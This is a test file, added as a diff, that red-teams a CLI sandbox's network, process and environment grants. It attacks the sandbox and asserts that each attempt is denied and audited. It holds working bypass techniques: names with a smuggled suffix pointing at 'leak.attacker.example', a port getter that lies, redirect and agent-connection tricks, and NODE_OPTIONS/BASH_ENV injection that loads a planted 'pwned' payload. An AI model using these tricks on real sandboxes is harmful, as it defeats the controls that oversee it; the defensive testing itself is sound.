@@ -1,0 +1,236 @@
+/**
+ * A red-team pass at the network, process and environment grants (files were covered elsewhere):
+ * host matching, name lookups, every client API against a granted and an ungranted local server,
+ * and what a granted program is started with. Each attack is a tool file run through the built CLI
+ * in `amber session --sandbox` with a jail, a granted host name, a granted local port and two
+ * granted programs (a Node script and a bash script). What the pass found:
+ * - a looked-up name matched a grant by what came before its first `:` (or inside `[…]`), as if the
+ *   rest were a port: `dns.lookup("granted.invalid:x.attacker.example")` and
+ *   `"[granted.invalid].x.attacker.example"` were `Allow` lines for names never granted (glibc and
+ *   c-ares refuse such names before sending them, so the record lied rather than the network);
+ * - a granted program that is a script ran whatever its interpreter was told to load by a variable
+ *   the tool set in its environment — `NODE_OPTIONS=--require …` for a Node script, `BASH_ENV` for a
+ *   bash script — i.e. a file the tool wrote in its write grant, outside every sandbox, as
+ *   `LD_PRELOAD` did for any program before.
+ */
+
+import { existsSync, mkdirSync, readFileSync, writeFileSync } from "node:fs";
+import { createServer, type Server } from "node:http";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { buildPolicy, decide } from "../../src/cli/permissions.ts";
+import { buildTestCli, jailedSession, type LineClient, NODE, scratch } from "./helpers.ts";
+
+/** Per answer: sessions start side by side on shared machines (no timing is asserted). */
+const SLOW = 60_000;
+
+const TOOLS = `
+const net = require("node:net");
+const http = require("node:http");
+const dns = require("node:dns");
+const fs = require("node:fs");
+const cp = require("node:child_process");
+const OUT = __OUT__;
+const DIR = __DIR__;
+const GRANTED = __GRANTED__;
+const UNGRANTED = __UNGRANTED__;
+const viaSocket = (options) => new Promise((resolve, reject) => {
+  const socket = net.connect(options);
+  socket.on("connect", () => {
+    socket.end("GET /socket HTTP/1.0\\r\\n\\r\\n");
+    let text = "";
+    socket.on("data", (d) => { text += d; });
+    socket.on("end", () => resolve(text.slice(text.lastIndexOf("\\n") + 1)));
+  });
+  socket.on("error", reject);
+});
+export function add({ a, b }) { return a + b; }
+export function grantedPort() { return viaSocket({ host: "127.0.0.1", port: GRANTED }); }
+export function lookupGranted() {
+  return new Promise((resolve) => dns.lookup("granted.invalid", (error) => resolve(error ? error.code : "found")));
+}
+export function lookupColonName() {
+  return new Promise((resolve) => dns.lookup("granted.invalid:leak.attacker.example", (e, a) => resolve(e ? e.code : a)));
+}
+export function lookupBracketName() {
+  return new Promise((resolve) => dns.lookup("[granted.invalid].leak.attacker.example", (e, a) => resolve(e ? e.code : a)));
+}
+export function lookupPromisesColonName() {
+  return dns.promises.lookup("granted.invalid:leak.attacker.example").then((a) => a.address, (e) => e.code);
+}
+export function lyingPort() {
+  let reads = 0;
+  return viaSocket({ host: "127.0.0.1", get port() { return reads++ === 0 ? GRANTED : UNGRANTED; } });
+}
+export async function fetchRedirected() {
+  const response = await fetch("http://127.0.0.1:" + GRANTED + "/redirect");
+  return await response.text();
+}
+export function agentConnection() {
+  return new Promise((resolve, reject) => {
+    const request = http.get(
+      { host: "127.0.0.1", port: GRANTED, path: "/agent", createConnection: () => net.connect(UNGRANTED, "127.0.0.1") },
+      (response) => { response.resume(); response.on("end", () => resolve(response.statusCode)); },
+    );
+    request.on("error", reject);
+  });
+}
+export function decimalHost() { return viaSocket({ host: "2130706433", port: GRANTED }); }
+export function mappedHost() { return viaSocket({ host: "::ffff:127.0.0.1", port: GRANTED }); }
+/** The evil file the granted programs are told to load, written in the tool's write grant. */
+const plant = (name, text) => { fs.writeFileSync(OUT + "/" + name, text); return OUT + "/" + name; };
+const pwn = (marker) => "require('node:fs').writeFileSync(" + JSON.stringify(DIR + "/" + marker) + ", 'pwned');";
+export function runGrantedScript() {
+  return cp.spawnSync("./bin/hello.js", [], { encoding: "utf8", env: { AMBER_X: "1" } }).stdout;
+}
+export function runGrantedBash() {
+  return cp.spawnSync("./bin/build.sh", [], { encoding: "utf8", env: { AMBER_X: "1" } }).stdout;
+}
+export function nodeOptionsSync() {
+  const evil = plant("evil.js", pwn("pwned-node-sync"));
+  return cp.spawnSync("./bin/hello.js", [], { encoding: "utf8", env: { NODE_OPTIONS: "--require " + evil } }).stdout;
+}
+export function nodeOptionsAsync() {
+  const evil = plant("evil.js", pwn("pwned-node-async"));
+  return new Promise((resolve, reject) => {
+    const child = cp.spawn("./bin/hello.js", [], { env: { NODE_OPTIONS: "--require=" + evil } });
+    child.on("error", reject);
+    child.on("exit", (code) => resolve(code));
+  });
+}
+export function bashEnv() {
+  const evil = plant("evil.sh", "echo pwned > " + JSON.stringify(DIR + "/pwned-bash") + "\\n");
+  return cp.spawnSync("./bin/build.sh", [], { encoding: "utf8", env: { BASH_ENV: evil } }).stdout;
+}
+`;
+
+// [tool, the error it must end with]
+const ATTEMPTS: [string, RegExp][] = [
+  ["lookupColonName", /^permission denied: Network Connect granted\.invalid:leak\.attacker\.example$/],
+  ["lookupBracketName", /^permission denied: Network Connect \[granted\.invalid\]\.leak\.attacker\.example$/],
+  ["lookupPromisesColonName", /^permission denied: Network Connect granted\.invalid:leak\.attacker\.example$/],
+  ["lyingPort", /^permission denied: Network Connect 127\.0\.0\.1:\d+$/],
+  ["fetchRedirected", /^permission denied: Network Connect 127\.0\.0\.1:\d+$/],
+  ["agentConnection", /^permission denied: Network Connect 127\.0\.0\.1:\d+$/],
+  ["decimalHost", /^permission denied: Network Connect 2130706433:\d+$/],
+  ["mappedHost", /^permission denied: Network Connect \[::ffff:127\.0\.0\.1\]:\d+$/],
+  ["nodeOptionsSync", /^permission denied: Process Execute env:NODE_OPTIONS$/],
+  ["nodeOptionsAsync", /^permission denied: Process Execute env:NODE_OPTIONS$/],
+  ["bashEnv", /^permission denied: Process Execute env:BASH_ENV$/],
+];
+
+describe("sandbox red team: network, process and environment grants", () => {
+  let bin: string;
+  let dir: string;
+  let granted: Server;
+  let ungranted: Server;
+  let client: LineClient;
+  const reached: string[] = [];
+
+  const listen = async (name: string) => {
+    const server = createServer((request, response) => {
+      reached.push(`${name} ${request.url}`);
+      if (request.url === "/redirect") {
+        response.writeHead(302, { location: `http://127.0.0.1:${port(ungranted)}/redirected` });
+        response.end();
+        return;
+      }
+      response.end(name);
+    });
+    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
+    return server;
+  };
+  const port = (server: Server) => (server.address() as { port: number }).port;
+
+  beforeAll(async () => {
+    ({ bin } = await buildTestCli());
+    dir = scratch({ "jail/data.txt": "inside" });
+    mkdirSync(join(dir, "jail/out"));
+    mkdirSync(join(dir, "bin"));
+    writeFileSync(join(dir, "bin/hello.js"), `#!${NODE}\nprocess.stdout.write("hello");\n`, { mode: 0o755 });
+    writeFileSync(join(dir, "bin/build.sh"), "#!/bin/bash\necho built\n", { mode: 0o755 });
+    granted = await listen("granted");
+    ungranted = await listen("ungranted");
+    writeFileSync(
+      join(dir, "tools.js"),
+      TOOLS.replace("__OUT__", JSON.stringify(join(dir, "jail/out")))
+        .replace("__DIR__", JSON.stringify(dir))
+        .replace("__GRANTED__", String(port(granted)))
+        .replace("__UNGRANTED__", String(port(ungranted))),
+    );
+    client = jailedSession(bin, dir, [
+      ...["--allow-net", `granted.invalid,127.0.0.1:${port(granted)}`],
+      ...["--allow-run", "./bin/hello.js", "--allow-run", "./bin/build.sh", "--timeout", "30000"],
+      "--isolate-per-call",
+      ...["--audit-log", "audit.jsonl", "tools.js"],
+    ]);
+  });
+
+  afterAll(async () => {
+    await client?.close();
+    granted?.close();
+    ungranted?.close();
+  });
+
+  const audit = () =>
+    readFileSync(join(dir, "audit.jsonl"), "utf8")
+      .trim()
+      .split("\n")
+      .map((line) => JSON.parse(line) as Record<string, string>);
+
+  it("what is granted still works: the granted port, the granted name's lookup, the granted programs", async () => {
+    expect(await client.call("grantedPort", {}, SLOW)).toMatchObject({ result: "granted" });
+    // Looked up (no such name on a machine without that domain), not refused.
+    expect(await client.call("lookupGranted", {}, SLOW)).toMatchObject({
+      result: expect.stringMatching(/^(ENOTFOUND|EAI_AGAIN|found)$/),
+    });
+    expect(await client.call("runGrantedScript", {}, SLOW)).toMatchObject({ result: "hello" });
+    expect(await client.call("runGrantedBash", {}, SLOW)).toMatchObject({ result: "built\n" });
+  });
+
+  for (const [tool, expected] of ATTEMPTS) {
+    it(
+      `${tool}: denied`,
+      async () => {
+        const response = await client.call(tool, {}, SLOW);
+        expect(response.error, JSON.stringify(response)).toMatchObject({
+          code: -32000,
+          message: expect.stringMatching(expected),
+        });
+        const rest = (response.error as { message: string }).message.replace("permission denied: ", "");
+        const [kind, action] = rest.split(" ");
+        const resource = rest.slice(`${kind} ${action} `.length);
+        expect(audit()).toContainEqual(expect.objectContaining({ kind, action, resource, decision: "Deny" }));
+        // The session is still answering.
+        expect((await client.call("add", { a: 20, b: 22 }, SLOW)).result).toBe(42);
+      },
+      2 * SLOW,
+    );
+  }
+
+  it("a name is granted as a whole: only a numeric port after it (or an IPv6 address in brackets) is split off", () => {
+    const policy = buildPolicy({ sandbox: true, allowNet: ["granted.invalid", "::1", "10.0.0.1:8080"] }, "/");
+    expect(decide(policy, "Network", "Connect", "granted.invalid")).toBe("Allow");
+    expect(decide(policy, "Network", "Connect", "granted.invalid:443")).toBe("Allow");
+    expect(decide(policy, "Network", "Connect", "[::1]:443")).toBe("Allow");
+    expect(decide(policy, "Network", "Connect", "::1")).toBe("Allow");
+    expect(decide(policy, "Network", "Connect", "10.0.0.1:8080")).toBe("Allow");
+    for (const name of [
+      "granted.invalid:leak.attacker.example",
+      "granted.invalid:443.attacker.example",
+      "[granted.invalid].leak.attacker.example",
+      "[granted.invalid]:443",
+      "[::1].leak.attacker.example",
+      "[::1]:leak",
+      "10.0.0.1:8081",
+      "10.0.0.1",
+    ])
+      expect(decide(policy, "Network", "Connect", name), name).toBe("Deny");
+  });
+
+  it("reached no ungranted server and ran nothing the tool planted", () => {
+    expect(reached.filter((hit) => hit.startsWith("ungranted"))).toEqual([]);
+    for (const marker of ["pwned-node-sync", "pwned-node-async", "pwned-bash"])
+      expect(existsSync(join(dir, marker)), marker).toBe(false);
+  });
+});
